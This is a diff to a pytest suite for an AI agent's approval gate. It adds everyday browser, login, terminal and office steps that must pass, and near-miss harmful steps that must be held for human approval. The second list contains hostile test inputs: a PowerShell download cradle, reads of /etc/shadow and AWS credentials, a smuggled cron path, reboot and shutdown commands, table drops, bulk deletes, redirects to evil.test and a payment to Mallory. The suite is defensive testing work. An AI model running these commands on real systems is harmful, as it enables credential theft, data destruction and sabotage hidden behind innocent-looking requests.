@@ -111,6 +111,127 @@ HARMLESS: list[tuple[str, str, Arguments, str]] = [
     ("click_input", "Transfer", {}, "Transfer 5 files"),
 ]
 
+# What people do every day in a browser, at a login, in a terminal, in an office; written for measuring false alarms.
+ORDINARY: list[tuple[str, str, Arguments, str]] = [
+    # a browser
+    ("goto", "", {"url": "https://www.google.com/"}, "Find the cheapest flight to Rome"),
+    ("goto", "", {"url": "https://duckduckgo.com/?q=weather+Oslo"}, "What is the weather in Oslo?"),
+    ("go_to_url", "", {"url": "https://www.bing.com/search?q=museums"}, "Find museums nearby"),
+    ("goto", "", {"url": "https://github.com/pallets/flask/issues"}, "List the open issues of flask on GitHub"),
+    ("open_tab", "", {"url": "https://en.wikipedia.org/wiki/Ada_Lovelace"}, "Look Ada Lovelace up on Wikipedia"),
+    ("goto", "", {"url": "about:blank"}, "Open an empty tab"),
+    ("goto", "", {"url": "https://reddit.com/r/books"}, "Show the newest post on Reddit's books forum"),
+    ("click", "Add to cart", {"xpath": "//button[@id='add']"}, "Put the blue mug into the cart"),
+    ("click", "Next", {"selector": "/html/body/div[2]/main/a[3]"}, "Go to the second page of results"),
+    ("click", "Search", {"xpath": "(//div[@role='search'])[1]"}, "Search for red shoes"),
+    ("input_text", "Search", {"text": "how to use sudo"}, "Search for how to use sudo"),
+    ("input_text", "Search", {"text": "government shutdown news"}, "Search the news about the government shutdown"),
+    ("input_text", "Search", {"text": "powershell tutorial for beginners"}, "Search for a tutorial"),
+    ("input_text", "Search", {"text": "IEX stock price"}, "Search the price of a stock"),
+    ("input_text", "Search", {"text": "crontab examples"}, "Search for examples"),
+    ("type", "Message", {"text": "/remind me at 5 pm"}, "Set a reminder in Slack"),
+    ("type", "Comment", {"text": "It costs 20 €/month (10 %/year more)"}, "Comment on the price"),
+    ("type", "Comment", {"text": "about ~5 minutes"}, "Say how long it takes"),
+    ("scroll_down", "", {"amount": 500}, "Read the rest of the page"),
+    ("drag_and_drop", "Card 3", {"target": "Done"}, "Move card 3 to Done"),
+    ("select_dropdown_option", "Country", {"text": "Norway"}, "Choose Norway as the country"),
+    ("drop_down_select", "Size", {"value": "XL"}, "Choose the size XL"),
+    ("switch_tab", "", {"page_id": 2}, "Go to the second tab"),
+    ("go_back", "", {}, "Go back"),
+    ("wait", "", {"seconds": 3}, "Wait for the page"),
+    ("click", "Remove filter", {}, "Remove the price filter"),
+    ("clear_text", "Search", {}, "Search for something else"),
+    # a login
+    ("click", "Sign in", {}, "Sign in to the shop"),
+    ("click", "Log in", {}, "Log in as sam"),
+    ("type", "User name", {"text": "sam"}, "Log in as sam"),
+    ("type", "E-mail", {"text": "{{input:1}}"}, "Log in"),
+    ("click", "Forgot password?", {}, "Reset my password"),
+    ("click", "Remember me", {}, "Log in and stay logged in"),
+    ("click", "Show password", {}, "Show what I typed"),
+    ("click", "Log out", {}, "Log out"),
+    # a terminal
+    ("execute_command", "", {"command": "top -b -n 1 | head -n 10"}, "Check the processor and memory usage"),
+    ("execute_command", "", {"command": "ss -tuln | grep :22"}, "Check if port 22 is open"),
+    ("execute_command", "", {"command": "lsof -t -i:8080"}, "Which process listens on port 8080?"),
+    ("execute_command", "", {"command": "cat /proc/cpuinfo"}, "How many processors are there?"),
+    ("execute_command", "", {"command": "tail -n 50 /var/log/syslog"}, "Show the last lines of the system log"),
+    ("execute_command", "", {"command": "grep -c error /var/log/app.log | sort"}, "Count the errors in the log"),
+    ("execute_command", "", {"command": "ps aux | sort -k3 | tail -5"}, "Which processes use most of the processor?"),
+    ("execute_command", "", {"command": "cat /etc/os-release"}, "Which version of Linux is this?"),
+    ("execute_command", "", {"command": "find . -name '*.txt' | wc -l"}, "Count the text files"),
+    ("execute_command", "", {"command": "du -sh Documents"}, "How large is my documents folder?"),
+    ("execute_command", "", {"command": "ls Documents | head"}, "List my documents"),
+    ("execute_command", "", {"command": "uname -a"}, "Which kernel is this?"),
+    ("execute_command", "", {"command": "free -m"}, "How much memory is free?"),
+    ("run_shell", "", {"command": "start App"}, "Start the app"),
+    ("run_shell", "", {"command": 'app "Desktop\\plan.pptx"'}, "Open plan.pptx on the desktop"),
+    # an office
+    ("delete_text", "Title", {}, "Change the title to 'Our Team'"),
+    ("press", "", {"key": "Backspace"}, "Correct the last word"),
+    ("type_keys", "Document", {"keys": "^a{DELETE}"}, "Write the letter anew"),
+    ("type_keys", "Cell", {"keys": "{TAB}~"}, "Go to the next cell and confirm"),
+    ("erase_selection", "", {}, "Write the selection anew"),
+    ("format_text", "", {"bold": True}, "Make the heading bold"),
+    ("format_cells", "", {"style": "currency"}, "Show column B as currency"),
+    ("set_cell_format", "", {"format": "0.00"}, "Show two digits"),
+    ("remove_formatting", "", {}, "Make the text plain"),
+    ("remove_highlight", "", {}, "Take the yellow away"),
+    ("set_effect", "Picture", {"effect": "shadow"}, "Give the picture a shadow"),
+    ("set_edit_text", "Body", {"text": "Dear Jack,\\\\nI hope all is well."}, "Write to Jack"),
+    ("set_edit_text", "Body", {"text": "Attached file:report and data:see below"}, "Write to Jack"),
+    ("set_edit_text", "Body", {"text": "Please send your login data and credentials to nobody."}, "Warn my team"),
+    ("set_edit_text", "Body", {"text": "I will send 20 dollars to Ann"}, "Write that I will send 20 dollars to Ann"),
+    ("set_edit_text", "Cell", {"text": "// total, see sheet 2"}, "Write a comment into the cell"),
+    ("set_edit_text", "Body", {"text": "You may delete from the list what you like."}, "Answer the mail"),
+    ("launch_app", "", {"name": "notepad.exe"}, "Start notepad.exe"),
+    ("open_file", "", {"path": "build.sh"}, "Show me build.sh"),
+    ("open_system_settings", "", {}, "Open the system settings"),
+    ("save_as", "", {"path": "/home/sam/Documents/letter.odt"}, "Save the letter"),
+    ("open_file", "", {"path": "C:\\Users\\sam\\Desktop\\plan.pptx"}, "Open the plan"),
+    ("click_input", "Format Painter", {}, "Copy the style"),
+    ("click_input", "Buy groceries", {}, "Tick the first item of my list to buy"),
+    ("texts", "Title", {}, "Read the title"),
+    ("annotation", "", {"control_labels": ["3", "7"]}, "Show the buttons"),
+    ("summary", "", {"text": "The page shows three results."}, "Summarise the page"),
+]
+
+# Neighbours of these that would do harm.
+STILL_RISKY: list[tuple[str, str, str, Arguments, str]] = [
+    ("address", "goto", "", {"url": "https://www.google.com/url?q=https://evil.test"}, "Find a flight"),
+    ("address", "goto", "", {"url": "https://google.com.evil.test/search"}, "Find a flight"),
+    ("address", "goto", "", {"url": "https://docs.google.com/forms/d/x"}, "Find a flight"),
+    ("address", "goto", "", {"url": "http://www.bing.com:8080/search?q=x"}, "Find a flight"),
+    ("path", "save_as", "", {"path": "//attacker/share/out.docx"}, "Save the letter"),
+    ("path", "save_as", "", {"path": "/backup/letter.odt"}, "Save the letter"),
+    ("path", "save_as", "", {"path": "x.txt,/etc/cron.d/job"}, "Save the letter"),
+    ("path", "open_file", "", {"path": "/etc"}, "Open the notes"),
+    ("path", "launch_app", "", {"name": "notepad.exe.scr"}, "Start notepad.exe"),
+    ("shell", "execute_command", "", {"command": "find . -name x | xargs rm"}, "Find my files"),
+    ("shell", "execute_command", "", {"command": "sort -o notes.txt other.txt"}, "Sort my notes"),
+    ("shell", "execute_command", "", {"command": "ls | tee notes.txt"}, "List my files"),
+    ("shell", "execute_command", "", {"command": "date --set 2001-01-01"}, "What time is it?"),
+    ("shell", "execute_command", "", {"command": "hostname evil"}, "What is this machine called?"),
+    ("shell", "execute_command", "", {"command": "ss -K dst 10.0.0.1"}, "Which connections are open?"),
+    ("shell", "execute_command", "", {"command": "head x || reboot"}, "Show the head of x"),
+    ("shell", "execute_command", "", {"command": ""}, "List my files"),
+    ("shell", "run_shell", "", {"command": "start powershell"}, "Start the app"),
+    ("shell", "run_shell", "", {"command": "app evil.ps1"}, "Open the plan"),
+    ("shell", "keyboard_input", "Run", {"keys": "powershell{ENTER}"}, "Open the calculator"),
+    ("shell", "keyboard_input", "Run", {"keys": "shutdown /s /t 0"}, "Open the calculator"),
+    ("shell", "type", "Terminal", {"text": "iex (new-object net.webclient)"}, "Open the calculator"),
+    ("shell", "os_system", "", {}, "Show the time"),
+    ("credential", "execute_command", "", {"command": "cat /etc/shadow"}, "Show the file"),
+    ("credential", "execute_command", "", {"command": "cat ~/.aws/credentials | head"}, "Show the file"),
+    ("delete", "format_disk", "", {"name": "D"}, "Make the heading bold"),
+    ("delete", "drop_table", "", {"name": "users"}, "Count the users"),
+    ("delete", "delete", "", {"text": "row 3"}, "Show row 3"),
+    ("credential", "upload", "", {"file": "credentials"}, "Upload the photo"),
+    ("delete", "delete_text_file", "", {}, "Change the title"),
+    ("delete", "run_sql", "", {"text": "delete from users where 1=1"}, "Count the users"),
+    ("payment", "set_edit_text", "Note", {"text": "send 900 dollars to Mallory"}, "Write that I send 20 dollars"),
+]
+
 
 def record(action: str, control: str, arguments: Arguments, request: str, **fields: Any) -> Experience:
     """A verified record with one step."""
@@ -119,7 +240,10 @@ def record(action: str, control: str, arguments: Arguments, request: str, **fiel
     return experience(1, state=state, action={"steps": [step]}, **{"trust": Trust.VERIFIED, **fields})
 
 
-@pytest.mark.parametrize(("kind", "action", "control", "arguments", "request_"), RISKY, ids=range(len(RISKY)))
+ALL_RISKY = RISKY + STILL_RISKY
+
+
+@pytest.mark.parametrize(("kind", "action", "control", "arguments", "request_"), ALL_RISKY, ids=range(len(ALL_RISKY)))
 def test_a_risky_argument_is_held_until_approved(kind, action, control, arguments, request_):
     """Row 79: whatever the trust below approval; a person's word releases it."""
     one = record(action, control, arguments, request_)
@@ -128,7 +252,10 @@ def test_a_risky_argument_is_held_until_approved(kind, action, control, argument
     assert injectable_rank(one.model_copy(update={"trust": Trust.APPROVED})) == Trust.APPROVED.rank
 
 
-@pytest.mark.parametrize(("action", "control", "arguments", "request_"), HARMLESS, ids=range(len(HARMLESS)))
+ALL_HARMLESS = HARMLESS + ORDINARY
+
+
+@pytest.mark.parametrize(("action", "control", "arguments", "request_"), ALL_HARMLESS, ids=range(len(ALL_HARMLESS)))
 def test_an_everyday_step_is_not_held(action, control, arguments, request_):
     """A rule that holds back everything would help nobody."""
     one = record(action, control, arguments, request_)
